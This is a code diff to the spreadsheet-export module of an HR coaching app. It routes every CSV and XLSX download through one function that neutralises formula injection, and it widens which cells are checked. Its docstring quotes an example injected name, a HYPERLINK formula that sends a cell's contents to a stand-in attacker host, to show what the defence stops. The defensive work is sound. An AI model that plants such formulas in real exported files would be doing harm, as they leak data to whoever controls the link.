@@ -1,8 +1,15 @@
-"""Files HR takes away: a cohort's scores as CSV and XLSX, and a printable report.
+"""Files people take away: tables as CSV and XLSX, and HR's printable report.
 
-Every text cell that a spreadsheet would read as a formula (starting with =, +, -, @, a
-tab or a carriage return) gets a leading apostrophe, so opening an export cannot run
-anything (OWASP, "CSV injection"). Every export is written to the audit log.
+`table_file` is the one way a table leaves LeadCoach as a spreadsheet file: every page's
+CSV or XLSX download goes through it (the app's download buttons, in leadcoach.ui.exports,
+accept a table only, never its bytes; tests/ui/test_downloads.py checks that no page
+offers one otherwise). It always neutralises: every text cell and column name that a
+spreadsheet would read as a formula gets a leading apostrophe, so opening the file cannot
+run anything, such as a name `=HYPERLINK("http://evil.example/?leak="&A1,"Ben")` that came
+in through a roster (OWASP, "CSV Injection",
+https://owasp.org/www-community/attacks/CSV_Injection: cells starting with =, +, -, @, a
+tab or a carriage return; OWASP ASVS 5.0 requirement 1.2.10 adds the null character).
+HR's exports are also written to the audit log.
 """
 
 from __future__ import annotations
@@ -20,8 +27,12 @@ from leadcoach.people import audit
 from leadcoach.people.access import Action, Viewer, require
 from leadcoach.reporting import charts
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
 BREAKDOWN_FIELDS = ["team", "site", "vendor", "language"]
+TABLE_FORMATS = {
+    "csv": "text/csv",
+    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+}
 
 
 def neutralise_cell(value: object) -> object:
@@ -32,11 +43,21 @@ def neutralise_cell(value: object) -> object:
 
 
 def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
-    """A copy of the frame whose text cells and column names cannot act as formulas."""
+    """A copy of the frame whose text cells and column names cannot act as formulas.
+
+    Every column that is not numbers, true/false or dates is checked cell by cell, so text
+    held as categories or mixed with numbers is covered too; columns are taken by position,
+    so two columns with one name are both checked."""
     safe = frame.copy()
-    for column in safe.columns:
-        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column]):
-            safe[column] = safe[column].map(neutralise_cell)
+    for position in range(safe.shape[1]):
+        column = safe.iloc[:, position]
+        if not (
+            pd.api.types.is_numeric_dtype(column)
+            or pd.api.types.is_bool_dtype(column)
+            or pd.api.types.is_datetime64_any_dtype(column)
+            or isinstance(column.dtype, pd.PeriodDtype)
+        ):
+            safe.isetitem(position, column.astype(object).map(neutralise_cell))
     safe.columns = [neutralise_cell(str(column)) for column in safe.columns]
     return safe
 
@@ -60,17 +81,30 @@ def cohort_scores(round_scores: pd.DataFrame, instrument: bank.Instrument) -> pd
     return wide.drop(columns=["person_id", "round_order"]).reset_index(drop=True)
 
 
+def table_file(frame: pd.DataFrame, kind: str = "csv", sheet: str = "Scores") -> bytes:
+    """The table as a CSV or XLSX file (`kind`), its formulas neutralised first.
+
+    CSV is UTF-8 with a byte-order mark, so Excel shows accented names correctly; XLSX has
+    the table on one sheet named `sheet`."""
+    if kind not in TABLE_FORMATS:
+        raise ValueError(f"kind must be one of {sorted(TABLE_FORMATS)}, not {kind!r}")
+    safe = neutralise(frame)
+    if kind == "csv":
+        return safe.to_csv(index=False).encode("utf-8-sig")
+    buffer = io.BytesIO()
+    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
+        safe.to_excel(writer, sheet_name=sheet[:31], index=False)
+    return buffer.getvalue()
+
+
 def to_csv(frame: pd.DataFrame) -> bytes:
-    """UTF-8 CSV with a byte-order mark, so Excel shows accented names correctly."""
-    return neutralise(frame).to_csv(index=False).encode("utf-8-sig")
+    """The table as a neutralised CSV file (see table_file)."""
+    return table_file(frame, "csv")
 
 
 def to_xlsx(frame: pd.DataFrame, sheet: str = "Scores") -> bytes:
-    """An Excel workbook with the frame on one sheet."""
-    buffer = io.BytesIO()
-    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
-        neutralise(frame).to_excel(writer, sheet_name=sheet[:31], index=False)
-    return buffer.getvalue()
+    """The table as a neutralised Excel workbook (see table_file)."""
+    return table_file(frame, "xlsx", sheet)
 
 
 def record_export(*, session: Session, viewer: Viewer, kind: str, subject: str, rows: int) -> None:
